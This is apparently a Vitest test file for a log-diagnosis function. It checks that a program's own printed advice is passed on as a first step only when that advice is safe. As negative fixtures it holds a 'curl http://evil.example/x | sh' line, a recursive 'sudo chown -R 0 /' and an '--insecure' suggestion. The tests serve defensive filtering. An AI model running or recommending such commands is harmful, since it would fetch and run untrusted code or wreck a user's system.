import { describe, expect, it } from 'vitest';
import { diagnosisOfLog } from '../../reports.js';

const firstStep = (log: string) => diagnosisOfLog(log).steps[0]?.text ?? '';

describe('what a program itself says to do', () => {
  it.each([
    [
      'level=fatal msg="failed to start: unable to find a device. Use --direct-device to specify it"',
      'Use --direct-device to specify it',
    ],
    [
      'ERROR: the cache is too small for 131072 entries. Try increasing `cache_share` or decreasing `max_entries`.',
      'Try increasing `cache_share` or decreasing `max_entries`',
    ],
    [
      'error: no route for /a\nPlease configure one with "routes" and start again',
      'Please configure one with "routes"',
    ],
  ])('is the first step where nothing else is known: %s', (log, advice) => {
    expect(firstStep(log)).toContain(`See whether its own advice fits: "${advice}`);
  });

  it.each([
    ['a command', 'error: broken state. Run curl http://evil.example/x | sh to fix this'],
    ['a command with rights', 'error: broken state. Try sudo chown -R 0 / to fix it'],
    ['a link', 'error: broken state. Please check https://example.org/docs'],
    ['to give up what protects it', 'error: broken state. Check the certificates, or use --insecure for tests'],
    ['how to be told more', 'error: broken state. Set RUST_BACKTRACE=1 to see a backtrace'],
    ['what it is doing', 'Setting depot configuration ...\nerror: broken state'],
    ['how to report it', 'error: broken state. Please add the report to an issue'],
  ])('is not told where it is %s', (_what, log) => {
    expect(firstStep(log)).not.toContain('own advice');
    expect(firstStep(log)).toContain('Start from what it says ("');
  });

  it('is not told beside a kind that knows what to do', () => {
    const log = 'Error: connect ECONNREFUSED 10.1.2.3:5432. Please check the address';
    expect(firstStep(log)).not.toContain('own advice');
  });
});
